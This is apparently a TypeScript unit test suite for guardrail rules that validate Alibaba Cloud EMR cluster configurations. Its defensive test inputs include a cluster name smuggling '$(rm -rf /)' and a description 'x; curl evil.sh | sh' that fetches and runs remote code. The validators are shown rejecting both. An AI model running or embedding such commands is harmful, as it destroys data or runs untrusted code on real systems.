/**
 * Unit tests of every pure rule: a compliant case, numbered non-compliant cases (one change each), preview
 * unknowns, malformed input, and every threshold at and above its limit. The rules never throw.
 */
import { ALL_RULES, ruleContext, runRule, UNKNOWN, type ClusterRule, type GuardrailLimits, type Outcome } from "../../policies/rules";
import * as capacity from "../../policies/rules/capacity";
import * as hygiene from "../../policies/rules/hygiene";
import * as metastore from "../../policies/rules/metastore";
import * as payment from "../../policies/rules/payment";
import { deletionProtection } from "../../policies/rules/protection";
import * as topology from "../../policies/rules/topology";
import { devClusterProps, haClusterProps, metastoreItem, nodeGroupProps } from "../helpers/cluster-props";

type Props = Record<string, any>;

const run = (rule: ClusterRule, props: unknown, limits?: Partial<GuardrailLimits>, stackName = "dev"): Outcome => runRule(rule, props, ruleContext(limits, { stackName }));
const withGroup = (props: Props, i: number, change: Props): Props => ({ ...props, nodeGroups: props.nodeGroups.map((g: Props, k: number) => (k === i ? { ...g, ...change } : g)) });
const addGroup = (props: Props, g: Props): Props => ({ ...props, nodeGroups: [...props.nodeGroups, g] });

function expectCompliant(outcome: Outcome) {
  expect(outcome).toEqual({ kind: "compliant" });
}
/**
 * The finding at `path`: its message and fix match every fragment, and at least one fragment is the fix's own (it
 * matches the fix and not the message): each case states what the user is told to do, the right value included.
 */
function expectViolation(outcome: Outcome, path: string, ...fragments: RegExp[]) {
  if (outcome.kind !== "non-compliant") throw new Error(`expected a violation at ${path}, got ${JSON.stringify(outcome)}`);
  const f = outcome.findings.find((x) => x.path === path);
  if (!f) throw new Error(`no finding at ${path}: ${JSON.stringify(outcome.findings)}`);
  for (const fr of fragments) expect(`${f.message} ${f.fix}`).toMatch(fr);
  if (!fragments.some((fr) => fr.test(f.fix) && !fr.test(f.message))) throw new Error(`no fragment asserts the fix at ${path}: "${f.fix}"`);
}
function expectUnknown(outcome: Outcome, path: string) {
  expect(outcome).toEqual({ kind: "unknown", paths: expect.arrayContaining([path]) });
}

describe("emr-node-group-creation-cap: groups above 30 nodes carry an acknowledgement; above the 50-node creation cap it says reached by steps", () => {
  const rule = capacity.nodeGroupSize;
  const acked = (props: Props, ack: unknown) => ({ ...props, tags: { ...props.tags, "emr-guard:ack-node-count": ack } });
  test("compliant: 30 nodes (at the acknowledgement threshold)", () => expectCompliant(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 30 }))));
  test("non-compliant 1: 31 nodes without a tag", () =>
    expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 31 })), "nodeGroups[1].nodeCount", /31 nodes is above the 30-node acknowledgement threshold/, /node group "core"/, /emr-guard:ack-node-count: "31"/, /stay at 30 or fewer/));
  test("non-compliant 2: 40 nodes with an acknowledgement of 35", () => expectViolation(run(rule, acked(withGroup(haClusterProps(), 1, { nodeCount: 40 }), "35")), "nodeGroups[1].nodeCount", /emr-guard:ack-node-count: "40"/, /acknowledged: 35/));
  test("compliant: 40 nodes acknowledged with 40", () => expectCompliant(run(rule, acked(withGroup(haClusterProps(), 1, { nodeCount: 40 }), "40"))));
  test("non-compliant 3: 51 nodes, above the creation cap: ONE finding, the cap's, whose fix is the same tag (issue 22)", () => {
    const outcome = run(rule, withGroup(haClusterProps(), 1, { nodeCount: 51 }));
    expectViolation(outcome, "nodeGroups[1].nodeCount", /51 nodes is above the 50-node cap for a node group at creation/, /create it with at most 50 and grow it in steps/, /emr-guard:ack-node-count: "51"/);
    expect(outcome.kind === "non-compliant" && outcome.findings).toHaveLength(1);
  });
  test("compliant: 90 nodes reached in steps (40 -> 90), signed off with the node-count acknowledgement (issue 10)", () => {
    const stepped = withGroup(haClusterProps(), 1, { nodeCount: 90 });
    expectViolation(run(rule, stepped), "nodeGroups[1].nodeCount", /sign off a size reached by steps with the tag emr-guard:ack-node-count: "90"/, /90 nodes is above the 50-node cap/);
    expectCompliant(run(rule, acked(stepped, "90")));
    expectViolation(run(rule, acked(stepped, "60")), "nodeGroups[1].nodeCount", /emr-guard:ack-node-count: "90"/, /90 nodes/, /acknowledged: 60/);
  });
  test("the configured limits, never the defaults, in every message", () => {
    expectCompliant(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 12 }), { nodeGroupAckThreshold: 12, maxNodesPerGroupAtCreate: 20 }));
    expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 13 }), { nodeGroupAckThreshold: 12, maxNodesPerGroupAtCreate: 20 }), "nodeGroups[1].nodeCount", /12-node acknowledgement threshold/, /stay at 12 or fewer/);
    expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 21 }), { nodeGroupAckThreshold: 12, maxNodesPerGroupAtCreate: 20 }), "nodeGroups[1].nodeCount", /20-node cap/, /at most 20/);
    // A cap below the threshold: the cap speaks for the groups between them.
    expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 25 }), { nodeGroupAckThreshold: 40, maxNodesPerGroupAtCreate: 20 }), "nodeGroups[1].nodeCount", /create it with at most 20 and grow it in steps/, /20-node cap/);
  });
  test("unknown: a node count not known in preview", () => expectUnknown(run(rule, withGroup(haClusterProps(), 1, { nodeCount: UNKNOWN })), "nodeGroups[1].nodeCount"));
  test("unknown, not a violation: 40 nodes while the tags are not known yet (an acknowledgement may be there; issue 17)", () => {
    expectUnknown(run(rule, { ...withGroup(haClusterProps(), 1, { nodeCount: 40 }), tags: UNKNOWN }), 'tags["emr-guard:ack-node-count"]');
    expectUnknown(run(rule, acked(withGroup(haClusterProps(), 1, { nodeCount: 40 }), UNKNOWN)), 'tags["emr-guard:ack-node-count"]');
    expectCompliant(run(rule, { ...withGroup(haClusterProps(), 1, { nodeCount: 20 }), tags: UNKNOWN }));
  });
  test("a count that is no whole number of at least 0 is emr-provider-schema's: here it cannot be judged", () => {
    expectUnknown(run(rule, withGroup(haClusterProps(), 1, { nodeCount: "lots" })), "nodeGroups[1].nodeCount");
    expectUnknown(run(rule, withGroup(haClusterProps(), 1, { nodeCount: -1 })), "nodeGroups[1].nodeCount");
  });
  test("malformed: nodeGroups is not a list", () => expectViolation(run(rule, { ...haClusterProps(), nodeGroups: "x" }), "nodeGroups", /write nodeGroups as a list/, /not a list/));
  test("a violation in one group is reported even when another is unknown", () =>
    expectViolation(run(rule, withGroup(withGroup(haClusterProps(), 1, { nodeCount: 60 }), 2, { nodeCount: UNKNOWN })), "nodeGroups[1].nodeCount", /emr-guard:ack-node-count: "60"/, /60/));
});

describe("emr-cluster-total-nodes-ack: clusters that may grow above 100 nodes carry a cost acknowledgement", () => {
  const rule = capacity.clusterTotalNodesAck;
  // haClusterProps: master 3 + core 3 + an auto-scaled task group counted at its MaxCapacity 40 = 46.
  const big = (extra: number) => addGroup(haClusterProps(), nodeGroupProps("TASK", "batch", extra));
  test("compliant: 100 nodes in total, the auto-scaled group at its MaxCapacity", () => expectCompliant(run(rule, big(54))));
  test("non-compliant 1: 101 nodes", () => expectViolation(run(rule, big(55)), "nodeGroups", /may have 101 nodes in total \(auto-scaled groups counted at their MaxCapacity\), above the 100-node cost threshold/, /emr-guard:ack-cluster-nodes: "101"/));
  test("compliant: 101 nodes acknowledged", () => expectCompliant(run(rule, { ...big(55), tags: { "emr-guard:ack-cluster-nodes": "120" } })));
  test("threshold from config: 2", () => expectViolation(run(rule, devClusterProps(), { clusterNodesCostAckThreshold: 2 }), "nodeGroups", /emr-guard:ack-cluster-nodes: "3"/, /3 nodes in total/));
  test("non-compliant 2: two TASK groups that may each grow to 60 (issue 9)", () => {
    const scaled = (name: string) => nodeGroupProps("TASK", name, 2, { autoScalingPolicy: { constraints: { minCapacity: 2, maxCapacity: 60 } } });
    expectViolation(run(rule, addGroup(addGroup(devClusterProps(), scaled("t1")), scaled("t2"))), "nodeGroups", /emr-guard:ack-cluster-nodes: "123"/, /may have 123 nodes/);
  });
  test("non-compliant 3: an auto-scaled group without maxCapacity counts at the API's default 2000", () =>
    expectViolation(run(rule, addGroup(devClusterProps(), nodeGroupProps("TASK", "t", 2, { autoScalingPolicy: { constraints: { minCapacity: 2 } } }))), "nodeGroups", /emr-guard:ack-cluster-nodes: "2003"/, /may have 2003 nodes/));
  test("unknown: a group's count unknown and the known ones below the threshold", () => expectUnknown(run(rule, withGroup(haClusterProps(), 1, { nodeCount: UNKNOWN })), "nodeGroups[1].nodeCount"));
  test("unknown: a MaxCapacity unknown", () => expectUnknown(run(rule, withGroup(haClusterProps(), 2, { autoScalingPolicy: { constraints: { minCapacity: 2, maxCapacity: UNKNOWN } } })), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity"));
  test("a known total above the threshold is reported even with another group unknown", () =>
    expectViolation(run(rule, addGroup(withGroup(haClusterProps(), 1, { nodeCount: UNKNOWN }), nodeGroupProps("TASK", "batch", 120))), "nodeGroups", /emr-guard:ack-cluster-nodes: "163" .* or more, once the other groups are known/, /at least 163 nodes/, /counting only the groups known yet/));
  test("a known count is kept when another group's auto-scaling is unknown: violation when it alone exceeds, else unknown (issue 17)", () => {
    const unknownScaling = withGroup(haClusterProps(), 2, { autoScalingPolicy: UNKNOWN });
    // 3 + 3 + the unknown group's 2 (its nodeCount, at least) = 8; with a 98-node batch group the known part is 106.
    expectViolation(run(rule, addGroup(unknownScaling, nodeGroupProps("TASK", "batch", 98))), "nodeGroups", /emr-guard:ack-cluster-nodes: "106" .* or more, once the other groups are known/, /at least 106 nodes/);
    expectUnknown(run(rule, addGroup(unknownScaling, nodeGroupProps("TASK", "batch", 90))), "nodeGroups[2].autoScalingPolicy");
    expectUnknown(run(rule, withGroup(haClusterProps(), 2, { autoScalingPolicy: { constraints: { minCapacity: 2, maxCapacity: UNKNOWN } } })), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity");
  });
  test("unknown tags: a total above the threshold is unknown, not a violation", () => expectUnknown(run(rule, { ...big(55), tags: UNKNOWN }), 'tags["emr-guard:ack-cluster-nodes"]'));
});

describe("emr-auto-scaling-max-capacity: MaxCapacity is at most 100", () => {
  const rule = capacity.autoScalingMaxCapacity;
  const cap = (maxCapacity: unknown) => withGroup(haClusterProps(), 2, { autoScalingPolicy: { constraints: { minCapacity: 2, maxCapacity } } });
  test("compliant: 100", () => expectCompliant(run(rule, cap(100))));
  test("non-compliant 1: 101", () => expectViolation(run(rule, cap(101)), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity", /set maxCapacity to 100 or less, e\.g\. 40/, /MaxCapacity 101 exceeds the auto-scaling cap of 100/, /node group "task"/));
  test("threshold from config: 50", () => expectViolation(run(rule, cap(60), { maxAutoScalingCapacity: 50 }), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity", /set maxCapacity to 50 or less/, /cap of 50/));
  test("unknown", () => expectUnknown(run(rule, cap(UNKNOWN)), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity"));
  test("non-compliant 2: no maxCapacity (the API's default is 2000)", () =>
    expectViolation(run(rule, withGroup(haClusterProps(), 2, { autoScalingPolicy: { constraints: { minCapacity: 2 } } })), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity", /state constraints\.maxCapacity, at most 100, e\.g\. \{ minCapacity: 2, maxCapacity: 40 \}/, /without maxCapacity: the API then allows up to 2000 nodes/));
  test("non-compliant 3: an auto-scaling policy without constraints", () =>
    expectViolation(run(rule, withGroup(haClusterProps(), 2, { autoScalingPolicy: { scalingRules: [] } })), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity", /state constraints\.maxCapacity, at most 100/, /2000/));
  test("not applicable without auto scaling", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
});

describe("emr-subscription-duration-ack: subscriptions above 12 months carry an acknowledgement", () => {
  const rule = payment.subscriptionDurationAck;
  const months = (paymentDuration: unknown) => ({ ...haClusterProps(), subscriptionConfig: { paymentDuration, paymentDurationUnit: "Month" } });
  test("compliant: 12 months", () => expectCompliant(run(rule, months(12))));
  test("non-compliant 1: 24 months", () => expectViolation(run(rule, months(24)), "subscriptionConfig.paymentDuration", /24-month subscription/, /emr-guard:ack-subscription-months: "24"/));
  test("non-compliant 2: a node group's own 36-month subscription", () =>
    expectViolation(run(rule, withGroup(haClusterProps(), 1, { subscriptionConfig: { paymentDuration: 36, paymentDurationUnit: "Month" } })), "nodeGroups[1].subscriptionConfig.paymentDuration", /emr-guard:ack-subscription-months: "36"/, /36-month/));
  test("compliant: 24 months acknowledged", () => expectCompliant(run(rule, { ...months(24), tags: { "emr-guard:ack-subscription-months": "24" } })));
  test("threshold from config: 6", () => expectViolation(run(rule, months(12), { subscriptionMonthsAckThreshold: 6 }), "subscriptionConfig.paymentDuration", /emr-guard:ack-subscription-months: "12" .*, or subscribe for 6 months/, /longer than 6 months/));
  test("unknown", () => expectUnknown(run(rule, months(UNKNOWN)), "subscriptionConfig.paymentDuration"));
});

describe("emr-deploy-mode-masters: one MASTER group, 3 nodes in HA, 1 in NORMAL", () => {
  const rule = topology.deployModeMasters;
  test("compliant: HA with 3", () => expectCompliant(run(rule, haClusterProps())));
  test("compliant: NORMAL with 1", () => expectCompliant(run(rule, devClusterProps())));
  test("non-compliant 1: HA with 1 MASTER node", () => expectViolation(run(rule, withGroup(haClusterProps(), 0, { nodeCount: 1 })), "nodeGroups[0].nodeCount", /set nodeCount to 3/, /HA mode needs 3 MASTER nodes/));
  test("non-compliant 2: NORMAL with 3 MASTER nodes", () => expectViolation(run(rule, withGroup(devClusterProps(), 0, { nodeCount: 3 })), "nodeGroups[0].nodeCount", /set nodeCount to 1, or use deployMode "HA"/, /NORMAL mode has 1/));
  test("non-compliant 3: no MASTER group", () => expectViolation(run(rule, withGroup(devClusterProps(), 0, { nodeGroupType: "CORE" })), "nodeGroups", /declare one group with nodeGroupType "MASTER" and nodeCount 1/, /0 MASTER groups/));
  test("non-compliant 4: deployMode left out means NORMAL (the API default)", () => {
    const { deployMode: _d, ...props } = haClusterProps();
    expectViolation(run(rule, props), "nodeGroups[0].nodeCount", /set nodeCount to 1/, /NORMAL mode has 1/);
  });
  test("unknown: deployMode unknown", () => expectUnknown(run(rule, { ...haClusterProps(), deployMode: UNKNOWN }), "deployMode"));
});

describe("emr-ha-zookeeper: HA clusters install ZOOKEEPER", () => {
  const rule = topology.haZookeeper;
  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
  test("non-compliant 1: HA without ZOOKEEPER", () => expectViolation(run(rule, { ...haClusterProps(), applications: ["HADOOP-COMMON", "HIVE"] }), "applications", /without ZOOKEEPER/, /add "ZOOKEEPER"/));
  test("not applicable: NORMAL", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
  test("unknown: applications unknown", () => expectUnknown(run(rule, { ...haClusterProps(), applications: UNKNOWN }), "applications"));
});

describe("emr-node-group-roles: MASTER-EXTEND only in HA, GATEWAY only where accepted", () => {
  const rule = topology.nodeGroupRoles;
  test("compliant: MASTER-EXTEND in HA", () => expectCompliant(run(rule, addGroup(haClusterProps(), nodeGroupProps("MASTER-EXTEND", "mx", 2)))));
  test("non-compliant 1: MASTER-EXTEND in NORMAL", () => expectViolation(run(rule, addGroup(devClusterProps(), nodeGroupProps("MASTER-EXTEND", "mx", 1))), "nodeGroups[2].nodeGroupType", /use deployMode "HA", or make it a CORE or TASK group/, /only in HA clusters/));
  const gw = (clusterType: string, releaseVersion: unknown) => ({ ...addGroup(devClusterProps(), nodeGroupProps("GATEWAY", "gw", 1)), clusterType, releaseVersion });
  test.each([
    ["DATALAKE", "EMR-5.10.1"],
    ["DATALAKE", "EMR-5.16.0"],
    ["DATAFLOW", "EMR-5.10.1"],
    ["CUSTOM", "EMR-5.17.1"],
    ["CUSTOM", "EMR-5.100.0"],
  ])("compliant: GATEWAY in %s on %s", (type, release) => expectCompliant(run(rule, gw(type, release))));
  test("non-compliant 2: GATEWAY in DATALAKE before EMR-5.10.1 (numbers compared, not text)", () =>
    expectViolation(run(rule, gw("DATALAKE", "EMR-5.9.0")), "nodeGroups[2].nodeGroupType", /DATALAKE clusters accept them from EMR-5\.10\.1, this one is EMR-5\.9\.0/, /EMR-5\.10\.1 or later/));
  test("non-compliant 3: GATEWAY in CUSTOM before EMR-5.17.1", () => expectViolation(run(rule, gw("CUSTOM", "EMR-5.16.0")), "nodeGroups[2].nodeGroupType", /use releaseVersion EMR-5\.17\.1 or later for a gateway group/, /from EMR-5\.17\.1/));
  test.each(["OLAP", "DATASERVING"])("non-compliant 4: GATEWAY in %s (a separate gateway environment); never advises the MASTER", (type) => {
    const outcome = run(rule, gw(type, "EMR-5.16.0"));
    expectViolation(outcome, "nodeGroups[2].nodeGroupType", /remove the group and submit jobs from a gateway environment/, /separately deployed gateway environment/);
    expect(JSON.stringify(outcome)).not.toMatch(/MASTER/);
  });
  test("non-compliant 5: a release that is not EMR-x.y.z cannot accept a gateway", () => expectViolation(run(rule, gw("DATALAKE", "latest")), "releaseVersion", /set releaseVersion to EMR-5\.10\.1 or later, e\.g\. "EMR-5\.17\.1"/, /not a release like EMR-5\.16\.0/));
  test("unknown: the release unknown", () => expectUnknown(run(rule, gw("DATALAKE", UNKNOWN)), "releaseVersion"));
  test("unknown: a group type unknown", () => expectUnknown(run(rule, withGroup(devClusterProps(), 1, { nodeGroupType: UNKNOWN })), "nodeGroups[1].nodeGroupType"));
});

describe("emr-spot-and-auto-scaling-task-only: Spot and auto scaling only on TASK groups", () => {
  const rule = topology.taskOnlyFeatures;
  test("compliant: Spot and auto scaling on TASK", () => expectCompliant(run(rule, haClusterProps())));
  test("non-compliant 1: Spot on CORE", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { spotStrategy: "SpotWithPriceLimit" })), "nodeGroups[1].spotStrategy", /remove spotStrategy \(or set "NoSpot"\)/, /CORE with spotStrategy SpotWithPriceLimit/));
  test("non-compliant 2: auto scaling on CORE", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { autoScalingPolicy: { constraints: { maxCapacity: 5 } } })), "nodeGroups[1].autoScalingPolicy", /move the autoScalingPolicy to a TASK group/, /only TASK groups scale/));
  test("compliant: NoSpot on CORE", () => expectCompliant(run(rule, withGroup(haClusterProps(), 1, { spotStrategy: "NoSpot" }))));
});

describe("emr-vswitch-ids: every node group lists its VSwitchIds", () => {
  const rule = topology.vswitchIdsRequired;
  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
  test("non-compliant 1: an empty list", () => expectViolation(run(rule, withGroup(haClusterProps(), 2, { vswitchIds: [] })), "nodeGroups[2].vswitchIds", /VSwitchIds is not valid/, /vsw-bp1example/));
  test("non-compliant 2: missing", () => expectViolation(run(rule, withGroup(haClusterProps(), 0, { vswitchIds: undefined })), "nodeGroups[0].vswitchIds", /e\.g\. \["vsw-bp1example"\]/, /no vswitchIds/));
  test("unknown: VSwitch IDs from resources created in the stack", () => expectUnknown(run(rule, withGroup(haClusterProps(), 0, { vswitchIds: UNKNOWN })), "nodeGroups[0].vswitchIds"));
});

describe("emr-application-exclusion: at most one of each exclusive set", () => {
  const rule = topology.applicationExclusion;
  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
  test.each([
    ["SPARK2", "SPARK3"],
    ["HDFS", "OSS-HDFS"],
    ["STARROCKS2", "STARROCKS3"],
  ])("non-compliant: %s with %s", (a, b) => expectViolation(run(rule, { ...haClusterProps(), applications: ["HADOOP-COMMON", a, b] }), "applications", new RegExp(`keep one of ${a}, ${b}`), new RegExp(`${a} and ${b} exclude each other`)));
  test("lower-case names are the same applications", () => expectViolation(run(rule, { ...haClusterProps(), applications: ["spark2", "SPARK3"] }), "applications", /keep one of SPARK2, SPARK3, e\.g\. "SPARK3"/, /SPARK2 and SPARK3/));
  test("malformed: applications not a list", () => expectViolation(run(rule, { ...haClusterProps(), applications: "HDFS" }), "applications", /write applications as a list/, /not a list/));
});

describe("emr-hive-metastore-type: HIVE sets hive.metastore.type", () => {
  const rule = metastore.hiveMetastoreType;
  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
  test("non-compliant 1: the item is missing", () => expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [] }), "applicationConfigs", /add \{ applicationName: "HIVE", configFileName: "hivemetastore-site\.xml", configItemKey: "hive\.metastore\.type"/, /ApplicationConfigs missing item/));
  test("non-compliant 2: an unknown value (RDS is not a type)", () =>
    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "RDS")] }), "applicationConfigs[0].configItemValue", /use "USER_RDS" \(ApsaraDB RDS\), "DLF"/, /EMR knows LOCAL, USER_RDS, DLF/));
  test("not applicable without HIVE", () => expect(run(rule, { ...haClusterProps(), applications: ["HADOOP-COMMON", "HDFS"] })).toEqual({ kind: "not-applicable" }));
  test("unknown: applicationConfigs unknown", () => expectUnknown(run(rule, { ...haClusterProps(), applicationConfigs: UNKNOWN }), "applicationConfigs"));
  test("unknown: the value unknown", () => expectUnknown(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", UNKNOWN as never)] }), "applicationConfigs[0].configItemValue"));
});

describe("emr-spark-metastore-matches-hive: Spark's hive.metastore.type equals HIVE's", () => {
  const rule = metastore.sparkMetastoreMatchesHive;
  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
  test("non-compliant 1: different values", () =>
    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "DLF"), metastoreItem("SPARK3", "hive-site.xml", "USER_RDS")] }), "applicationConfigs[1].configItemValue", /set SPARK3's hive\.metastore\.type to "DLF"/, /SPARK3 uses metastore USER_RDS but HIVE uses DLF/));
  test("non-compliant 2: Spark's item missing", () =>
    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "DLF")] }), "applicationConfigs", /add \{ applicationName: "SPARK3", configFileName: "hive-site\.xml"/, /SPARK3 is installed but hive.metastore.type is not set/));
  test("unknown: HIVE's value unknown", () =>
    expectUnknown(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", UNKNOWN as never), metastoreItem("SPARK3", "hive-site.xml", "DLF")] }), "applicationConfigs[1].configItemValue"));
});

describe("emr-ha-external-metastore: HA + HIVE uses USER_RDS or DLF", () => {
  const rule = metastore.haExternalMetastore;
  test.each(["USER_RDS", "DLF"])("compliant: %s", (type) => expectCompliant(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", type)] })));
  test("non-compliant 1: LOCAL", () =>
    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "LOCAL")] }), "applicationConfigs[0].configItemValue", /HA cluster with HIVE uses hive.metastore.type LOCAL/, /USER_RDS/));
  test("not applicable: NORMAL with LOCAL", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
});

describe("emr-deletion-protection: deletionProtection is true", () => {
  const rule = deletionProtection;
  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
  test("non-compliant 1: false", () => expectViolation(run(rule, { ...haClusterProps(), deletionProtection: false }), "deletionProtection", /keep deletionProtection: true/, /deletionProtection is false/));
  test("non-compliant: false next to other edits (a policy removed, a group added): the rule judges the cluster, whatever else changes", () => {
    const edited = addGroup(withGroup({ ...haClusterProps(), deletionProtection: false }, 2, { autoScalingPolicy: undefined }), nodeGroupProps("TASK", "burst", 2));
    expectViolation(run(rule, edited), "deletionProtection", /keep deletionProtection: true/, /deletionProtection is false/);
  });
  test("non-compliant 2: not set (the API default is false)", () => expectViolation(run(rule, { ...haClusterProps(), deletionProtection: undefined }), "deletionProtection", /keep deletionProtection: true/, /not set/));
  test("unknown", () => expectUnknown(run(rule, { ...haClusterProps(), deletionProtection: UNKNOWN }), "deletionProtection"));
  // A program may write the flag as a string (config, YAML); the provider reads a TypeBool string with strconv.ParseBool
  // (terraform-plugin-sdk stringToPrimitive): "true" protects the cluster and "false" does not, so the rule reads them so.
  test('the string "true" protects the cluster, as the provider reads it', () => expectCompliant(run(rule, { ...haClusterProps(), deletionProtection: "true" })));
  test('non-compliant 3: the string "false" is false, not a malformed value', () =>
    expectViolation(run(rule, { ...haClusterProps(), deletionProtection: "false" }), "deletionProtection", /keep deletionProtection: true/, /deletionProtection is false:/));
  test("malformed: a string the provider would not read as a boolean", () => expectViolation(run(rule, { ...haClusterProps(), deletionProtection: "yes" }), "deletionProtection", /keep deletionProtection: true/, /not a boolean/));
});

describe("emr-names-and-descriptions: names use letters, digits, _ and -", () => {
  const rule = hygiene.namesAndDescriptions;
  test("compliant, Chinese included", () => expectCompliant(run(rule, { ...haClusterProps(), clusterName: "数据湖-prod_1" })));
  test("non-compliant 1: shell metacharacters in the cluster name", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "lake$(rm -rf /)" }), "clusterName", /e\.g\. "lakehouse-prod"/, /is not made of English or Chinese letters, digits/));
  test("compliant: a node-group name starting with a digit (1st_task)", () => expectCompliant(run(rule, withGroup(haClusterProps(), 2, { nodeGroupName: "1st_task" }))));
  test.each([["café"], ["задачи"], ["Ñandú"]])("non-compliant: letters outside English and Chinese in a node-group name: %s", (name) =>
    expectViolation(run(rule, withGroup(haClusterProps(), 2, { nodeGroupName: name })), "nodeGroups[2].nodeGroupName", /e\.g\. "1st_task"/, /English or Chinese letters/));
  test("non-compliant: a Cyrillic cluster name", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "кластер" }), "clusterName", /e\.g\. "lakehouse-prod"/, /English or Chinese letters/));
  test("non-compliant 2: a cluster name over 64 characters", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "a".repeat(65) }), "clusterName", /e\.g\. "lakehouse-prod"/, /65 characters; at most 64/));
  test("non-compliant 3: a node group name with a space", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeGroupName: "core nodes" })), "nodeGroups[1].nodeGroupName", /e\.g\. "1st_task"/, /node group name/));
  test("non-compliant 4: a name starting with a digit", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "1lake" }), "clusterName", /e\.g\. "lakehouse-prod"/, /starting with a letter/));
  test("unknown: the name comes from another resource", () => expectUnknown(run(rule, { ...haClusterProps(), clusterName: UNKNOWN }), "clusterName"));
});

describe("emr-bootstrap-scripts-oss: scripts only from oss://", () => {
  const rule = hygiene.bootstrapScriptsFromOss;
  const script = (scriptPath: unknown) => ({ ...haClusterProps(), bootstrapScripts: [{ scriptName: "init", scriptPath }] });
  test("compliant", () => expectCompliant(run(rule, script("oss://my-bucket/bootstrap/init.sh"))));
  test.each(["https://example.com/init.sh", "http://10.0.0.1/x.sh", "/tmp/init.sh", "oss://"])("non-compliant: %s", (path) =>
    expectViolation(run(rule, script(path)), "bootstrapScripts[0].scriptPath", /only from your own OSS bucket/, /oss:\/\/my-bucket/));
  test("unknown", () => expectUnknown(run(rule, script(UNKNOWN)), "bootstrapScripts[0].scriptPath"));
  test("not applicable without scripts", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
});

describe("emr-production-kerberos / emr-production-ha: production stacks use KERBEROS and HA", () => {
  test("compliant on prod", () => {
    expectCompliant(run(hygiene.productionKerberos, haClusterProps(), undefined, "prod"));
    expectCompliant(run(hygiene.productionHa, haClusterProps(), undefined, "prod"));
  });
  test("non-compliant 1: NORMAL security mode on prod", () => expectViolation(run(hygiene.productionKerberos, { ...haClusterProps(), securityMode: "NORMAL" }, undefined, "prod"), "securityMode", /set securityMode: "KERBEROS"/, /production stack "prod"/));
  test("non-compliant 2: NORMAL deploy mode on payments-prod", () => expectViolation(run(hygiene.productionHa, devClusterProps(), undefined, "payments-prod"), "deployMode", /set deployMode: "HA" with 3 MASTER nodes and ZOOKEEPER/, /master failover/));
  test("not applicable on dev", () => expect(run(hygiene.productionKerberos, devClusterProps(), undefined, "dev")).toEqual({ kind: "not-applicable" }));
  test("production patterns from config", () => {
    const ctx = ruleContext({}, { stackName: "live", productionStacks: ["live"] });
    expect(runRule(hygiene.productionHa, devClusterProps(), ctx).kind).toBe("non-compliant");
  });
});

describe("text validators reused by the API client (client/validate.ts)", () => {
  test("descriptions refuse shell metacharacters", () => {
    expect(hygiene.checkDescription("Nightly ETL, finance")).toEqual([]);
    expect(hygiene.checkDescription("x; curl evil.sh | sh")[0]).toMatchObject({ path: "description", message: expect.stringContaining("metacharacters") });
  });
});

describe("every rule survives malformed input without throwing", () => {
  const inputs: unknown[] = [undefined, null, 42, "cluster", [], { nodeGroups: [null, 3, "x", { nodeCount: null }] }, { applications: [null, 1] }, { applicationConfigs: [null, { configItemKey: 5 }] }, { nodeAttributes: "sg" }, { tags: 7 }, UNKNOWN];
  test.each(ALL_RULES.map((r) => [r.name, r] as const))("%s", (_name, rule) => {
    for (const input of inputs) {
      const outcome = run(rule, input);
      expect(["compliant", "non-compliant", "not-applicable", "unknown"]).toContain(outcome.kind);
      if (outcome.kind === "non-compliant") expect(outcome.findings.every((f) => f.path !== "(rule)")).toBe(true);
    }
  });
});
